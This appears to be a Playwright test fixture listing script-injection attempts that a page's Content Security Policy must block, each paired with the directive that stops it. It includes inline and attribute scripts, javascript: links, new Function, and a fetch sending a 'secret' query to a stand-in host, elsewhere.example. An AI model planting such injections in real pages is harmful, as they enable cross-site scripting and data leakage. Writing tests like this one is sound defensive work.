import type { Page } from '@playwright/test';
import { expect } from './site';

/** Something that a page must not do, also when somebody smuggles a text into it. */
export type Attempt = {
  readonly what: string;
  /** The part of the policy that stops it. */
  readonly directive: string;
  readonly attempt: (page: Page) => Promise<void>;
};

export const attempts: readonly Attempt[] = [
  {
    what: 'an inline script',
    directive: 'script-src-elem',
    attempt: async (page) => {
      await page.evaluate(() => {
        const script = document.createElement('script');
        script.textContent = 'window.harmed = true;';
        document.body.append(script);
      });
    },
  },
  {
    what: 'a script in an attribute',
    directive: 'script-src-attr',
    attempt: async (page) => {
      await page.evaluate(() =>
        document.body.insertAdjacentHTML('beforeend', '<a onclick="window.harmed = true">a</a>'),
      );
      await page.evaluate(() => document.querySelector<HTMLElement>('[onclick]')?.click());
    },
  },
  {
    what: 'a link that is a script',
    directive: 'script-src-elem',
    attempt: async (page) => {
      await page.evaluate(() => {
        document.body.insertAdjacentHTML('beforeend', '<a id="harm" href="javascript:window.harmed = true">a</a>');
        document.getElementById('harm')?.click();
      });
    },
  },
  {
    what: 'a text run as a script',
    directive: 'script-src',
    attempt: async (page) => {
      // Later, as what a test itself evaluates is free of the page's policy.
      await page.evaluate(() => {
        setTimeout(() => {
          try {
            new Function('window.harmed = true')();
          } catch {}
        });
      });
    },
  },
  {
    what: 'a script of another host',
    directive: 'script-src-elem',
    attempt: async (page) => {
      await page.evaluate(() => {
        const script = Object.assign(document.createElement('script'), { src: 'https://elsewhere.example/a.js' });
        document.body.append(script);
      });
    },
  },
  {
    what: 'an image of another host',
    directive: 'img-src',
    attempt: async (page) => {
      await page.evaluate(() => {
        new Image().src = 'https://elsewhere.example/a.png';
      });
    },
  },
  {
    what: 'a style in an attribute',
    directive: 'style-src-attr',
    attempt: async (page) => {
      await page.evaluate(() => document.body.setAttribute('style', 'display: none'));
      await expect(page.locator('body')).toBeVisible();
    },
  },
  {
    what: 'a request to another host',
    directive: 'connect-src',
    attempt: async (page) => {
      await page.evaluate(() => fetch('https://elsewhere.example/?secret').catch(() => {}));
    },
  },
  {
    what: 'a frame',
    directive: 'frame-src',
    attempt: async (page) => {
      await page.evaluate(() => document.body.insertAdjacentHTML('beforeend', '<iframe src="/start"></iframe>'));
    },
  },
  {
    what: 'WebAssembly in the page',
    directive: 'script-src',
    attempt: async (page) => {
      const compiled = await page.evaluate(() =>
        WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).then(
          () => true,
          () => false,
        ),
      );
      expect(compiled).toBe(false);
    },
  },
];
